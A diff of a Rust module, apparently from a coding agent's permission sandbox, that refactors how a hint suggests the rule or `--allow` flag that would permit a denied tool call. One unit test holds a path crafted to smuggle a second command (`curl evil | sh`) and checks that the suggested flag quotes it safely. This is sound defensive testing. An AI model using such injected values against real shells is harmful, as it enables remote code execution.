@@ -1,13 +1,9 @@
 //! What a person would have to write to allow a call, tried before it is told.
 
-use std::path::Path;
-
-use plimsoll_config::{Action, Origin, PermissionRule, Permissions};
+use plimsoll_sandbox::{Action, EffectiveRules, Origin, PermissionRequest, PermissionRule, Permissions};
 use serde_json::Value;
 
-use super::rules::suggested_rule;
-use super::{Access, Bounds, Subject};
-use crate::agent::{Bound, Profile};
+use crate::agent::Profile;
 
 /// Where a setting is written that is not there yet. A change of a project's file takes effect once its user trusts it.
 pub(crate) const IN_PROJECT_FILE: &str = "in plimsoll.toml, then `plimsoll trust`,";
@@ -27,15 +23,6 @@ pub(crate) struct AllowHint {
     pub(crate) rule: Option<String>,
 }
 
-/// A call that was denied.
-#[derive(Clone, Copy)]
-pub(crate) struct DeniedCall<'a> {
-    pub(crate) tool: &'a str,
-    pub(crate) access: Access,
-    pub(crate) subject: &'a Subject,
-    pub(crate) project: &'a Path,
-}
-
 /// Where a rule is put to see what it would change.
 #[derive(Clone, Copy)]
 enum Layer {
@@ -50,34 +37,28 @@ impl AllowHint {
     pub(crate) fn find(
         profile: &Profile,
         granted: &Permissions,
-        call: DeniedCall<'_>,
+        denied: PermissionRequest<'_>,
         also: Option<String>,
     ) -> AllowHint {
-        let DeniedCall { tool, access, subject, project } = call;
-        let within =
-            Bounds { own: &profile.permissions, above: &profile.bounds, closed: &profile.closed, granted };
-        let rule = within.deciding(tool, access, subject, project).map(|rule| {
-            let PermissionRule { tool, pattern, action, origin } = rule;
+        let rule = profile.rules(granted).deciding_rule(denied).map(|rule| {
+            let PermissionRule { tool, pattern, action, origin, .. } = rule;
             format!("`{tool}` on `{pattern}` is `{}` ({origin})", action.name())
         });
         let allows = |candidate: &PermissionRule, layer: Layer| {
             let own = with_rule(&profile.permissions, profile.general_rules, candidate, layer);
-            let above: Vec<Bound> = profile
+            let above: Vec<Permissions> = profile
                 .bounds
                 .iter()
-                .map(|bound| Bound {
-                    permissions: with_rule(&bound.permissions, bound.general_rules, candidate, layer),
-                    ..bound.clone()
-                })
+                .map(|bound| with_rule(&bound.permissions, bound.general_rules, candidate, layer))
                 .collect();
-            let within = Bounds { own: &own, above: &above, closed: &profile.closed, granted };
-            within.decide(tool, access, subject, project) == Action::Allow
+            let rules = EffectiveRules::new(&own).within(&above).closing(&profile.closed).granting(granted);
+            rules.decide(denied) == Action::Allow
         };
         // What is denied to `read` is denied to these, so that a rule for one of them would change nothing.
         let candidates = || {
-            let shows_files = matches!(tool, "grep" | "list" | "glob");
-            let reading = shows_files.then(|| suggested_rule("read", subject, project));
-            std::iter::once(suggested_rule(tool, subject, project)).chain(reading)
+            let shows_files = matches!(denied.tool, "grep" | "list" | "glob");
+            let reading = shows_files.then(|| PermissionRule::suggested_for(denied.with_tool("read")));
+            std::iter::once(PermissionRule::suggested_for(denied)).chain(reading)
         };
         let flag = candidates().find(|rule| allows(rule, Layer::Agent)).map(|rule| flag_for(&rule));
         let general = candidates().find(|rule| allows(rule, Layer::General));
@@ -98,9 +79,8 @@ impl AllowHint {
         let beside = setting_beside(&table, &candidate, there).filter(|(_, _, at)| {
             let mut permissions = profile.permissions.clone();
             permissions.rules.insert(start + at + 1, candidate.clone());
-            let within =
-                Bounds { own: &permissions, above: &profile.bounds, closed: &profile.closed, granted };
-            profile.bounds.is_empty() && within.decide(tool, access, subject, project) == Action::Allow
+            let rules = EffectiveRules::new(&permissions).closing(&profile.closed).granting(granted);
+            profile.bounds.is_empty() && rules.decide(denied) == Action::Allow
         });
         let (setting, replaces) = match beside {
             Some((setting, replaces, _)) => (setting, Some(replaces)),
@@ -231,15 +211,18 @@ fn shell_quoted(text: &str) -> String {
 mod tests {
     use std::path::Path;
 
+    use plimsoll_sandbox::{Access, PermissionRequest, PermissionRule, Subject};
+
     use super::{flag_for, setting_for};
-    use crate::permissions::Subject;
-    use crate::permissions::rules::suggested_rule;
 
     #[test]
     fn the_flag_that_is_suggested_can_be_pasted() {
         let path = |path: &str| Subject::Path { named: path.into(), real: path.into() };
         let command = |line: &str| Subject::Command(line.into());
-        let rule = |tool, subject: &Subject| suggested_rule(tool, subject, Path::new("/project"));
+        let rule = |tool, subject: &Subject| {
+            let request = PermissionRequest::new(tool, Access::Act, subject, Path::new("/project"));
+            PermissionRule::suggested_for(request)
+        };
         let evil = path("/tmp/a'; curl evil | sh; '/b");
         assert_eq!(flag_for(&rule("read", &evil)), "--allow 'read:/tmp/a'\\''; curl evil | sh; '\\''/b'");
         let cargo = rule("bash", &command("cargo test -q"));
